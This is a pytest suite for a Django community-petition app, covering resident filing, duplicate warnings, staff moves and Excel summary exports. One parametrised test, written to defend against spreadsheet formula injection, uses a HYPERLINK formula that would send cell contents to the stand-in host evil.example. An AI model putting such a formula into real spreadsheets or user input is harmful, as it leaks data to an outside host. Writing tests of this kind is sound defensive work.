"""The pages: filing from a phone, a request's page and its moves, the desk sheets."""

from __future__ import annotations

import io
import re
import uuid
from datetime import datetime
from zoneinfo import ZoneInfo

import pytest
import time_machine
from django import forms
from django.urls import reverse
from openpyxl import load_workbook

from grids.printing import building_token
from petitions.models import Action, Petition, Status
from tests.petitions.conftest import move, walk_to


@pytest.fixture(autouse=True)
def _english(client):
    # Page texts are checked in English: the language switch remembers it in a cookie.
    client.cookies["django_language"] = "en"


def new_request(client, **data):
    body = {
        "category": "safety",
        "building": "",
        "description": "楼道里有人飞线充电",
        "token": str(uuid.uuid4()),
    }
    body.update(data)
    return client.post(reverse("petitions:new"), body)


def test_resident_form_offers_their_own_building_first(client, pw):
    client.force_login(pw.tenant)
    page = client.get(reverse("petitions:new"))
    assert page.status_code == 200
    assert page.context["form"].initial["building"] == pw.gw.building_1.pk


def test_resident_files_from_the_form_and_lands_on_the_request(client, pw):
    client.force_login(pw.tenant)
    response = new_request(client, building=pw.gw.building_1.pk, urgent="on")
    p = Petition.objects.get()
    assert response.status_code == 302
    assert response["Location"] == reverse("petitions:detail", args=[p.pk])
    page = client.get(response["Location"])
    assert p.reference in page.content.decode()
    assert p.priority == "urgent"


def test_double_clicked_submit_makes_one_request(client, pw):
    client.force_login(pw.tenant)
    token = str(uuid.uuid4())
    first = new_request(client, building=pw.gw.building_1.pk, token=token)
    second = new_request(client, building=pw.gw.building_1.pk, token=token)
    assert first["Location"] == second["Location"]
    assert Petition.objects.count() == 1


def test_likely_duplicate_is_shown_before_filing_and_filing_anyway_works(client, pw):
    earlier = pw.submit()
    client.force_login(pw.neighbour)
    shown = new_request(client, building=pw.gw.building_1.pk)
    assert shown.status_code == 200
    assert earlier.reference in shown.content.decode()
    assert Petition.objects.count() == 1  # nothing filed yet
    form = shown.context["form"]
    assert form.data["confirmed"] == "1"
    again = client.post(reverse("petitions:new"), form.data)
    assert again.status_code == 302
    assert Petition.objects.count() == 2


def test_a_form_with_errors_keeps_what_was_typed(client, pw):
    client.force_login(pw.tenant)
    response = new_request(client, building=pw.gw.building_1.pk, description="", place_note="5楼")
    assert response.status_code == 200
    body = response.content.decode()
    assert "This field is required." in body
    assert 'value="5楼"' in body
    assert not Petition.objects.exists()


def test_a_photo_that_is_not_an_image_gets_a_message_and_nothing_is_filed(client, pw):
    from tests.photos import not_an_image

    client.force_login(pw.tenant)
    response = new_request(client, building=pw.gw.building_1.pk, photos=[not_an_image()])
    assert response.status_code == 200
    assert "not a photo that can be read" in response.content.decode()
    assert not Petition.objects.exists()


def test_the_building_poster_opens_the_form_with_that_building(client, pw):
    token = building_token(pw.gw.building_1)
    public = client.get(reverse("building-public", args=[token]))
    # Without an account: the poster report by SMS code.
    assert reverse("poster-report", args=[token]) in public.content.decode()
    client.force_login(pw.tenant)
    public = client.get(reverse("building-public", args=[token]))
    assert f"?b={token}" in public.content.decode()
    page = client.get(reverse("petitions:new") + f"?b={token}")
    assert page.context["form"].initial["building"] == pw.gw.building_1.pk


def test_worker_sees_the_accept_button_and_accepts(client, pw):
    p = pw.submit()
    client.force_login(pw.gw.worker_1)
    page = client.get(reverse("petitions:detail", args=[p.pk]))
    assert 'data-testid="do-accept"' in page.content.decode()
    response = client.post(
        reverse("petitions:act", args=[p.pk, "accept"]),
        {"accept-version": p.version, "accept-priority": "urgent", "accept-note": "马上处理"},
    )
    assert response.status_code == 302
    p.refresh_from_db()
    assert (p.status, p.priority) == (Status.ACCEPTED, "urgent")


def test_the_resident_sees_no_staff_buttons(client, pw):
    p = pw.submit()
    client.force_login(pw.tenant)
    body = client.get(reverse("petitions:detail", args=[p.pk])).content.decode()
    assert 'data-testid="do-accept"' not in body
    assert 'data-testid="do-withdraw"' in body


def test_a_move_from_an_old_page_gets_a_reload_message_and_changes_nothing(client, pw):
    p = pw.submit()
    seen = p.version
    move(p, pw.gw.worker_1, Action.ACCEPT)
    client.force_login(pw.gw.secretary_x)
    response = client.post(
        reverse("petitions:act", args=[p.pk, "assign"]),
        {"assign-version": seen, "assign-assignee": pw.gw.worker_1.pk},
        follow=True,
    )
    assert "changed while you had it open" in response.content.decode()
    p.refresh_from_db()
    assert p.status == Status.ACCEPTED


def test_an_escalation_without_a_reason_shows_the_form_again_with_the_note(client, pw):
    p = move(pw.submit(), pw.gw.worker_1, Action.ACCEPT)
    client.force_login(pw.gw.secretary_x)
    response = client.post(
        reverse("petitions:act", args=[p.pk, "escalate"]),
        {"escalate-version": p.version, "escalate-internal_note": "需街道协调"},
    )
    assert response.status_code == 400
    body = response.content.decode()
    assert "This field is required." in body
    assert "需街道协调" in body
    p.refresh_from_db()
    assert p.status == Status.ACCEPTED


def test_a_move_not_offered_to_the_viewer_is_refused(client, pw):
    p = pw.submit()
    client.force_login(pw.tenant)
    response = client.post(
        reverse("petitions:act", args=[p.pk, "accept"]), {"accept-version": p.version}
    )
    assert response.status_code == 302
    p.refresh_from_db()
    assert p.status == Status.SUBMITTED


def test_worker_records_a_walk_in(client, pw):
    client.force_login(pw.gw.worker_1)
    response = client.post(
        reverse("petitions:record"),
        {
            "channel": "walk_in",
            "requester_name": "张奶奶",
            "requester_phone": "13812348000",
            "category": "facilities",
            "priority": "normal",
            "building": pw.gw.building_1.pk,
            "description": "楼下路灯不亮",
            "token": str(uuid.uuid4()),
        },
    )
    assert response.status_code == 302
    p = Petition.objects.get()
    assert (p.channel, p.requester_name, p.recorded_by) == ("walk_in", "张奶奶", pw.gw.worker_1)


def test_worker_turns_a_hazard_into_a_request(client, pw):
    from grids.services import hazard_report

    hazard = hazard_report(
        actor=pw.gw.worker_1,
        building=pw.gw.building_1,
        kind="flying_wire",
        description="5楼飞线充电",
    )
    client.force_login(pw.gw.worker_1)
    response = client.post(reverse("petitions:record") + f"?hazard={hazard.pk}")
    p = Petition.objects.get()
    assert response["Location"] == reverse("petitions:detail", args=[p.pk])
    assert p.hazard == hazard


def test_list_filters_by_status(client, pw):
    open_one = pw.submit()
    withdrawn = move(pw.submit(), pw.tenant, Action.WITHDRAW)
    client.force_login(pw.gw.worker_1)
    shown = client.get(reverse("petitions:list") + "?status=open").context["page"].object_list
    assert list(shown) == [open_one]
    shown = client.get(reverse("petitions:list") + "?status=withdrawn").context["page"]
    assert list(shown.object_list) == [withdrawn]


def test_worker_home_shows_what_waits_to_be_accepted(client, pw):
    pw.submit()
    pw.submit()
    client.force_login(pw.gw.worker_1)
    page = client.get(reverse("role-home", args=["grid_worker"]))
    rows = page.context["panels"]
    desk = next(p for p in rows if p.template == "petitions/_desk_panel.html")
    assert desk.context["rows"][0].count == 2


def test_secretary_prints_the_daily_summary_and_takes_the_excel(client, pw):
    p = pw.submit()
    walk_to(pw, pw.submit(), Status.ESCALATED)
    client.force_login(pw.gw.secretary_x)
    page = client.get(reverse("petitions:summary"))
    assert page.status_code == 200
    summary = page.context["s"]
    assert len(summary.came_in) == 2
    assert len(summary.went_up) == 1
    xlsx = client.get(reverse("petitions:summary-xlsx"))
    book = load_workbook(io.BytesIO(xlsx.content))
    references = [row[0] for row in book.worksheets[0].iter_rows(min_row=3, values_only=True)]
    assert p.reference in references


FORMULA = '=HYPERLINK("http://evil.example/?"&A3,"点击查看")'


@pytest.fixture
def midmorning():
    """The summary is of today: a clock that stays inside one day, set before the world."""
    at = datetime(2026, 5, 12, 10, 0, tzinfo=ZoneInfo("Asia/Shanghai"))
    with time_machine.travel(at, tick=True):
        yield


@pytest.mark.parametrize("text", [FORMULA, "+1+1 楼道堵塞", "-2+3", "@SUM(1,2)", "#N/A"])
def test_a_request_that_looks_like_a_formula_stays_text_in_the_excel(midmorning, client, pw, text):
    p = pw.submit(description=text)
    walk_to(pw, pw.submit(), Status.ACCEPTED)
    escalated = move(
        Petition.objects.get(status=Status.ACCEPTED), pw.gw.secretary_x, "escalate", reason=text
    )
    client.force_login(pw.gw.secretary_x)
    book = load_workbook(io.BytesIO(client.get(reverse("petitions:summary-xlsx")).content))
    came_in = {row[0].value: row[7] for row in book.worksheets[0].iter_rows(min_row=3)}
    went_up = {row[0].value: row[4] for row in book.worksheets[2].iter_rows(min_row=2)}
    for cell in (came_in[p.reference], went_up[escalated.reference]):
        assert cell.data_type == "s"  # not "f" (formula) nor "e" (error)
        assert cell.value == text
        # Excel's "text as typed" flag: editing the cell does not turn it into a formula.
        assert cell.quotePrefix


def test_residents_have_no_summary_or_rates(client, pw):
    client.force_login(pw.tenant)
    assert client.get(reverse("petitions:summary")).status_code == 404
    assert client.get(reverse("petitions:rates")).status_code == 404


def test_summary_of_another_community_is_404(client, pw):
    client.force_login(pw.gw.secretary_x)
    other = pw.gw.outsider.household.unit.building.community
    response = client.get(reverse("petitions:summary") + f"?community={other.pk}")
    assert response.status_code == 404


def test_dispatcher_sees_the_rates_per_community_and_department(client, pw):
    closed = walk_to(pw, pw.submit(), Status.CALLED_BACK)
    move(closed, pw.tenant, Action.RATE, rating="satisfied")
    client.force_login(pw.gw.dispatcher)
    page = client.get(reverse("petitions:rates"))
    tables = dict(page.context["tables"])
    community = tables["community"][0]
    assert (community.name, community.total, community.satisfaction_rate) == (
        "御景花园社区",
        1,
        100,
    )
    assert tables["department"][0].name == "街道城管中队"


def test_a_bad_filter_value_is_ignored_and_the_others_still_apply(client, pw):
    submitted = pw.submit()
    move(pw.submit(), pw.tenant, Action.WITHDRAW)
    client.force_login(pw.gw.secretary_x)
    page = client.get(reverse("petitions:list") + "?status=submitted&grid=999999")
    assert list(page.context["page"].object_list) == [submitted]


def test_a_neighbour_merged_into_a_request_does_not_see_who_filed_it(client, pw):
    original = pw.submit()
    duplicate = pw.submit(actor=pw.neighbour)
    move(duplicate, pw.gw.worker_1, Action.MERGE, original=original)
    client.force_login(pw.neighbour)
    page = client.get(reverse("petitions:detail", args=[original.pk])).content.decode()
    assert original.description in page
    assert pw.tenant.name not in page
    api = client.get(f"/api/v1/petitions/{original.pk}/").json()
    assert api["requester_name"] == ""


@pytest.mark.parametrize("value", ["²", "99999999999999999999999", "abc"])
def test_odd_ids_in_query_strings_are_not_found_not_an_error(client, pw, value):
    client.force_login(pw.gw.secretary_x)
    assert client.get(reverse("petitions:summary") + f"?community={value}").status_code == 200
    client.force_login(pw.gw.worker_1)
    assert client.get(reverse("petitions:record") + f"?hazard={value}").status_code == 200
    # The API refuses what cannot be an id with a 400 naming the filter.
    refused = client.get(f"/api/v1/patrols/?grid={value}")
    assert (refused.status_code, list(refused.json())) == (400, ["grid"])


# --- The resident's own list and their request's page -----------------------------------


def test_a_resident_gets_their_own_list_without_the_staff_filters(client, pw):
    mine = pw.submit()
    done = move(pw.submit(), pw.tenant, Action.WITHDRAW)
    client.force_login(pw.tenant)
    page = client.get(reverse("petitions:list"))
    body = page.content.decode()
    assert 'data-testid="filters"' not in body
    assert "Overdue only" not in body
    assert 'data-testid="resident-tabs"' in body
    assert set(page.context["page"].object_list) == {mine, done}
    shown = client.get(reverse("petitions:list") + "?status=open").context["page"]
    assert list(shown.object_list) == [mine]
    shown = client.get(reverse("petitions:list") + "?status=done").context["page"]
    assert list(shown.object_list) == [done]
    # A staff status means nothing here: the whole list.
    shown = client.get(reverse("petitions:list") + "?status=escalated").context["page"]
    assert len(shown.object_list) == 2


def test_staff_keep_their_filter_bar(client, pw):
    pw.submit()
    client.force_login(pw.gw.worker_1)
    assert 'data-testid="filters"' in client.get(reverse("petitions:list")).content.decode()


def test_the_resident_list_query_count_does_not_grow_with_rows(
    client, pw, django_assert_num_queries
):
    for i in range(22):
        pw.submit(description=f"第{i}件")
    client.force_login(pw.tenant)
    # session, user, memberships; grid staff (is this a worker?); count; the page;
    # unread messages
    with django_assert_num_queries(7):
        body = client.get(reverse("petitions:list")).content.decode()
    assert body.count('data-testid="petition"') == 20


def test_the_resident_sees_where_the_request_stands_and_by_when(client, pw):
    p = move(pw.submit(), pw.gw.worker_1, Action.ACCEPT)
    client.force_login(pw.tenant)
    body = client.get(reverse("petitions:detail", args=[p.pk])).content.decode()
    assert 'data-testid="stepper"' in body
    current = body.split('aria-current="step"')[0].rsplit("<li", 1)[1]
    assert 'data-state="current"' in current
    assert body.count('aria-current="step"') == 1
    steps = re.findall(r'data-state="(\w+)"', body)
    assert steps == ["done", "current", "todo", "todo", "todo"]
    assert p.due_at.astimezone(ZoneInfo("Asia/Shanghai")).strftime("%Y-%m-%d %H:%M") in body
    assert 'data-testid="do-urge"' not in body  # not late: nothing to urge
    # Staff read the timeline, not the resident's stepper.
    client.force_login(pw.gw.secretary_x)
    assert (
        'data-testid="stepper"'
        not in client.get(reverse("petitions:detail", args=[p.pk])).content.decode()
    )


def test_a_matter_the_community_resolved_skips_the_street_step(client, pw):
    p = move(pw.submit(), pw.gw.worker_1, Action.ACCEPT)
    p = move(p, pw.gw.secretary_x, Action.ASSIGN, assignee=pw.gw.worker_1)
    p = move(p, pw.gw.worker_1, Action.RESOLVE, result="已清理")
    client.force_login(pw.tenant)
    body = client.get(reverse("petitions:detail", args=[p.pk])).content.decode()
    assert re.findall(r'data-state="(\w+)"', body) == [
        "done",
        "done",
        "skipped",
        "done",
        "current",
    ]


def test_the_resident_urges_an_overdue_request_from_its_page_once_a_day(client, pw):
    from datetime import timedelta

    p = move(pw.submit(), pw.gw.worker_1, Action.ACCEPT)
    client.force_login(pw.tenant)
    url = reverse("petitions:detail", args=[p.pk])
    with time_machine.travel(p.due_at + timedelta(hours=2), tick=False):
        body = client.get(url).content.decode()
        assert 'data-testid="do-urge"' in body
        assert "overdue-tag" in body
        urge = reverse("petitions:act", args=[p.pk, "urge"])
        first = client.post(urge, {"urge-version": p.version}, follow=True)
        assert "has been told" in first.content.decode()
        assert 'data-testid="urged-today"' in first.content.decode()
        assert 'data-testid="do-urge"' not in first.content.decode()
        again = client.post(urge, {"urge-version": p.version}, follow=True)
        assert "today already" in again.content.decode()
    assert p.events.filter(action=Action.URGE).count() == 1


def test_a_work_order_shows_when_to_sign_for_it_and_what_was_promised(client, pw):
    p = walk_to(pw, pw.submit(), Status.DISPATCHED)

    def shown(when: datetime) -> str:
        return when.astimezone(ZoneInfo("Asia/Shanghai")).strftime("%Y-%m-%d %H:%M")

    client.force_login(pw.handler)
    body = client.get(reverse("petitions:detail", args=[p.pk])).content.decode()
    deadline = body.split('data-testid="deadline"')[1].split("</dd>")[0]
    assert shown(p.sign_by) in deadline
    promised = body.split('data-testid="promised"')[1].split("</dd>")[0]
    assert shown(p.promised_at) in promised
    # The resident's stepper: the department's step and the date promised.
    client.force_login(pw.tenant)
    body = client.get(reverse("petitions:detail", args=[p.pk])).content.decode()
    assert shown(p.promised_at) in body.split('data-testid="progress-promised"')[1]
    assert 'data-testid="promised"' not in body


def test_every_staff_text_field_says_whether_the_resident_reads_it(client, pw):
    p = move(pw.submit(), pw.gw.worker_1, Action.ACCEPT)
    client.force_login(pw.gw.secretary_x)
    page = client.get(reverse("petitions:detail", args=[p.pk]))
    for form in page.context["forms"]:
        for name, field in form.fields.items():
            if isinstance(field.widget, forms.Textarea):
                assert field.help_text, (form.action, name)
        if "share" in form.fields:
            assert form.fields["share"].initial in (None, False)  # internal by default
    escalate = next(f for f in page.context["forms"] if f.action == "escalate")
    assert "Only staff read this" in str(escalate.fields["reason"].help_text)
    assert "share" in escalate.fields
    body = page.content.decode()
    assert "The resident never reads this." in body


# --- The intake form: no kind chosen for the person, what a duplicate is, photos kept ---


def test_the_kind_of_matter_starts_unchosen_and_must_be_chosen(client, pw):
    client.force_login(pw.tenant)
    page = client.get(reverse("petitions:new")).content.decode()
    select = page.split('name="category"', 1)[1].split("</select>", 1)[0]
    assert '<option value="" selected>' in select
    response = new_request(client, building=pw.gw.building_1.pk, category="")
    assert "Choose what kind of matter it is." in response.content.decode()
    assert not Petition.objects.exists()


def test_the_duplicate_warning_says_what_each_is_about_and_marks_the_own(client, pw):
    own = pw.submit(description="楼道里电动车飞线充电，已经好几天了，晚上充电到天亮很危险。" * 2)
    neighbours = pw.submit(actor=pw.neighbour, description="三楼邻居家门口的纸箱")
    client.force_login(pw.tenant)
    shown = new_request(client, building=pw.gw.building_1.pk)
    assert Petition.objects.count() == 2  # nothing filed yet
    by_ref = {d.reference: d for d in shown.context["duplicates"]}
    mine, theirs = by_ref[own.reference], by_ref[neighbours.reference]
    assert (mine.mine, mine.category, mine.status) == (
        True,
        own.get_category_display(),
        own.get_status_display(),
    )
    assert mine.excerpt.startswith("楼道里电动车飞线充电")
    assert mine.excerpt.endswith("…")
    page = shown.content.decode()
    assert page.count('data-testid="duplicate-mine"') == 1
    assert f'href="{reverse("petitions:detail", args=[own.pk])}"' in page
    # A neighbour's request: what kind, where, how far it is, but not their words, no link.
    assert (theirs.mine, theirs.excerpt, theirs.url) == (False, "", "")
    assert neighbours.reference in page
    assert "纸箱" not in page
    assert reverse("petitions:detail", args=[neighbours.pk]) not in page


def test_photos_chosen_stay_through_the_duplicate_warning_and_are_filed_once(client, pw):
    from community.models import PhotoDraft
    from tests.photos import phone_jpeg

    pw.submit()
    client.force_login(pw.tenant)
    shown = new_request(client, building=pw.gw.building_1.pk, photos=[phone_jpeg()])
    assert shown.context["duplicates"]
    kept = shown.context["kept_photos"]
    assert len(kept) == 1
    assert f'name="photo_draft" value="{kept.token}"' in shown.content.decode()
    data = shown.context["form"].data.copy()
    data["photo_draft"] = kept.token
    filed = client.post(reverse("petitions:new"), data)
    p = Petition.objects.latest("pk")
    assert filed["Location"] == reverse("petitions:detail", args=[p.pk])
    assert p.photos.count() == 1
    assert not PhotoDraft.objects.exists()


def test_a_double_tap_after_kept_photos_lands_on_the_request_and_keeps_nothing_again(client, pw):
    from community.models import PhotoDraft
    from tests.photos import phone_jpeg

    pw.submit()
    client.force_login(pw.tenant)
    shown = new_request(client, building=pw.gw.building_1.pk, photos=[phone_jpeg()])
    data = shown.context["form"].data.copy()
    data["photo_draft"] = shown.context["kept_photos"].token
    first = client.post(reverse("petitions:new"), data)
    second = client.post(reverse("petitions:new"), data, follow=True)
    p = Petition.objects.latest("pk")
    assert first["Location"] == reverse("petitions:detail", args=[p.pk])
    assert second.redirect_chain[-1][0] == first["Location"]
    assert "no longer kept" not in second.content.decode()
    assert p.photos.count() == 1
    assert not PhotoDraft.objects.exists()


def test_photos_chosen_stay_through_a_refused_field(client, pw):
    from tests.photos import phone_jpeg

    client.force_login(pw.tenant)
    refused = new_request(
        client, building=pw.gw.building_1.pk, description="", photos=[phone_jpeg()]
    )
    kept = refused.context["kept_photos"]
    assert 'data-testid="kept-photos"' in refused.content.decode()
    new_request(client, building=pw.gw.building_1.pk, photo_draft=kept.token)
    assert Petition.objects.get().photos.count() == 1
